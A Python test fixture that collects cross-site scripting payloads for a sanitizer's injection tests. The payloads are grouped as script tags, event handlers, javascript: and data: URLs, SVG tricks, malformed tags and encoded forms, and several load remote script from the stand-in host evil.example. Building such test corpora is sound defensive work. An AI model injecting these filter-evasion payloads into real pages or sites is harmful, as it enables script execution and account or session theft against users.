"""A corpus of cross-site scripting payloads, by kind, for the injection tests.

Gathered from the usual filter-evasion lists (OWASP's XSS cheat sheet, PortSwigger's, html5sec.org) and
written both as raw HTML and as the Markdown an editor would type. Each one would run script, or load
something that could, if it reached a page or an email unchanged.
"""

from __future__ import annotations

SVG_SCRIPT = "PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4="  # <svg onload=...>
HTML_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

SCRIPT_TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<script type=\"module\">import('https://evil.example/m.js')</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "Text first\n\n<script>\nalert(1)\n</script>\n\nText after",
)

EVENT_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror  =  alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=x onerror=alert`1`>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    '<p onclick="alert(1)">click me</p>',
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe onload=alert(1)></iframe>",
    '<a href="https://example.org" onmouseover="alert(1)">a link</a>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<object data=x onerror=alert(1)></object>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    "<isindex action=javascript:alert(1) type=image>",
    "<h1 onclick=alert(1)>Heading</h1>",
    "<strong onmouseenter=alert(1)>bold</strong>",
    '<img src="https://example.org/a.png" alt="x" onload="alert(1)">',
    "<em/onpointerover=alert(1)>x</em>",
)

JAVASCRIPT_URLS = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "![image](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058'
    'alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[click](vbscript:msgbox(1))",
    '<a href="livescript:alert(1)">x</a>',
    '<a href="https://example.org" title="x">ok</a><a href="javascript:alert(1)">not ok</a>',
)

DATA_URLS = (
    f"[click](data:text/html;base64,{HTML_SCRIPT})",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    f'<img src="data:image/svg+xml;base64,{SVG_SCRIPT}">',
    f"![image](data:image/svg+xml;base64,{SVG_SCRIPT})",
    f'<iframe src="data:text/html;base64,{HTML_SCRIPT}"></iframe>',
    f'<object data="data:text/html;base64,{HTML_SCRIPT}"></object>',
    f'<embed src="data:image/svg+xml;base64,{SVG_SCRIPT}">',
    '<a href="DATA:text/html,x">x</a>',
    '<a href=" data:text/html,x">x</a>',
    '<a href="data&colon;text/html,x">x</a>',
    '<link rel=stylesheet href="data:text/css,body{background:red}">',
)

SVG = (
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml;base64,{SVG_SCRIPT}#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><image href="javascript:alert(1)"></image></svg>',
    "<math href=javascript:alert(1)>click</math>",
)

MALFORMED_TAGS = (
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    '<a href="https://example.org" <img src=x onerror=alert(1)>',
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1) <",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? echo '<script>alert(1)</script>' ?>",
    '<a href="https://example.org"title="x"onclick="alert(1)">x</a>',
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<a style="position:fixed;top:0;left:0;width:100%;height:100%" href="https://evil.example">x</a>',
    "</p></article><script>alert(1)</script>",
    "`code` <img src=x onerror=alert(1)> `more code`",
)

ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<img src=x onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;(1)">',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "[click](javascript%3Aalert(1))",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<img src=x onerror=\\u0061lert(1)>",
    '<a href="javas&#99;ript:alert(1)">x</a>',
    "\u202e<script>alert(1)</script>",
    "<script>alert(1)</script>".upper(),
)

PAYLOADS: tuple[str, ...] = (
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *JAVASCRIPT_URLS,
    *DATA_URLS,
    *SVG,
    *MALFORMED_TAGS,
    *ENCODED,
)
